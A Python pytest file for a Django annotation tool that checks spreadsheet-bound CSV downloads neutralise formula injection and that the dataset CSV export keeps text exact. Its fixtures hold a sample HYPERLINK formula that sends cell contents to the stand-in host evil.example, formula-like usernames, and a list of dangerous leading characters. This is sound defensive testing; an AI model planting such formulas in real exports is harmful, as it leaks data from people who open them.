"""CSV files meant for a spreadsheet cannot carry a live formula (issue 11, point 3).

A title or a username that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is what Excel, LibreOffice and Google Sheets read as a formula
(OWASP, "CSV Injection"). Every CSV a person opens in a spreadsheet (progress,
grades, assignments, members) prefixes such a cell with ``'``; the dataset CSV
export is data for pandas and keeps text exact.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotator.models import AnnotationSet, AnnotationStatus, Membership
from tests.factories import DocumentFactory, UserFactory

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open brief")'
# Django's username rule allows these leading characters.
HOSTILE_NAMES = ["@SUM(1+1)", "+cmd", "-2+3"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Brief 1", "Brief 1"),
        ("", ""),
        ("a=1", "a=1"),
        ("0.6667", "0.6667"),
    ],
)
def test_a_cell_that_starts_a_formula_gets_a_quote(cell, safe):
    from annotator.text.spreadsheet import spreadsheet_cell

    assert spreadsheet_cell(cell) == safe


@pytest.fixture
def hostile(project, members):
    """A brief titled with a formula, students whose usernames start with formula
    characters, each assigned to it, one submitted with a final gold (for grades)."""
    brief = DocumentFactory(project=project, title=FORMULA_TITLE, external_id="=1+2")
    for name in HOSTILE_NAMES:
        user = UserFactory(username=name, email=f"=evil{len(name)}@example.org")
        Membership.objects.create(project=project, user=user, role="annotator")
        AnnotationSet.objects.create(document=brief, annotator=user,
                                     status=AnnotationStatus.SUBMITTED)
    AnnotationSet.objects.create(document=brief, is_gold=True, annotator=None,
                                 gold_final=True, status=AnnotationStatus.SUBMITTED)
    return brief


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str, must_hold: list[str]) -> None:
    cells = _cells(text)
    live = [c for c in cells if c.startswith(DANGEROUS_STARTS)]
    assert live == [], f"live formulas in the CSV: {live}"
    for value in must_hold:  # the value is there, neutralised, not dropped
        assert "'" + value in cells, (value, cells)


@pytest.mark.parametrize(
    ("url_name", "must_hold"),
    [
        ("progress-csv", [FORMULA_TITLE, *HOSTILE_NAMES]),
        ("grades-csv", HOSTILE_NAMES),
        ("assignments-csv", ["=1+2", *HOSTILE_NAMES]),
        ("members-download", HOSTILE_NAMES),
    ],
)
def test_every_spreadsheet_download_neutralises_formulas(client_for, project, hostile,
                                                         url_name, must_hold):
    response = client_for("manager").get(reverse(url_name, kwargs={"slug": project.slug}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    _assert_no_formula(response.content.decode(), must_hold)


def test_the_command_line_grades_and_assignments_are_neutralised(project, hostile, tmp_path):
    grades = tmp_path / "grades.csv"
    call_command("grades", project.slug, "-o", str(grades))
    _assert_no_formula(grades.read_text(), HOSTILE_NAMES)
    table = tmp_path / "assignments.csv"
    call_command("assign", project.slug, "--per-document", "1", "--seed", "1", "-o", str(table))
    _assert_no_formula(table.read_text(), ["=1+2"])


def test_the_dataset_csv_export_keeps_text_exact(project, members, tmp_path):
    """The CSV export is data for pandas.read_csv: a span text is never altered."""
    from annotator.formats.csv_spans import write_csv_files
    from annotator.formats.records import (
        AnnotationRecord,
        DocumentRecord,
        RelationRecord,
        SpanRecord,
    )

    text = "=SUM(A1:A9) is what the brief says."
    record = DocumentRecord(
        external_id="=d1", title="=t", text=text,
        annotations=[AnnotationRecord(annotator="-x", status="submitted",
                                      spans=[SpanRecord(id="T1", start=0, end=11,
                                                        label="Claim"),
                                             SpanRecord(id="@2", start=12, end=14,
                                                        label="Claim")],
                                      relations=[RelationRecord(
                                          "+R1", "@2", "T1", "supports",
                                          attributes={"group": "=g"})])],
    )
    assert write_csv_files([record], tmp_path) == (2, 1)
    with open(tmp_path / "spans.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["text"] == "=SUM(A1:A9)"
    assert rows[0]["annotator"] == "-x"
    assert rows[0]["document"] == "=d1"
    assert rows[1]["span_id"] == "@2"
    with open(tmp_path / "relations.csv", encoding="utf-8", newline="") as fh:
        [relation] = list(csv.DictReader(fh))
    assert (relation["document"], relation["annotator"], relation["relation_id"],
            relation["source_span_id"]) == ("=d1", "-x", "+R1", "@2")
    assert json.loads(relation["attributes"]) == {"group": "=g"}
